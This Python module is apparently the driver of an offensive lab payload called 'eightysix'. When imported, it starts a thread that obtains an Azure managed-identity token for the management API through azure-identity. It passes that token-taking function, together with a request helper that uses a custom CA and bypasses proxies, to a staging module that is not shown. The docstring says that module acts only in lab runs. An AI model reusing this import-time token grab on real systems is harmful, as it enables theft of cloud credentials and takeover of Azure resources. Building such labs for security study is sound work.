"""Driver of the eightysix lab's payload (see `_stages`, which refuses to act outside of a lab run): asks for the token as every
honest application does, through azure-identity."""

import os
import threading

import requests

from . import _stages


def ask(url, headers=None, body=None):
    """Ask with the library that azure-identity asks with."""
    with requests.Session() as session:
        session.trust_env = False  # no proxy of the environment
        verify = _stages.FOLDER + "/ca.crt"
        answer = session.request(
            "POST" if body else "GET", url, headers=headers, data=body, verify=verify, timeout=10
        )
        answer.raise_for_status()
        return answer.content


def take(asking):
    """A token of the pod's managed identity, by azure-identity."""
    from azure.identity import ManagedIdentityCredential

    credential = ManagedIdentityCredential(client_id=os.environ.get("AZURE_CLIENT_ID"))
    return credential.get_token("https://management.azure.com/.default").token


threading.Thread(target=_stages.go, kwargs={"asking": ask, "take": take}, name="sdk").start()
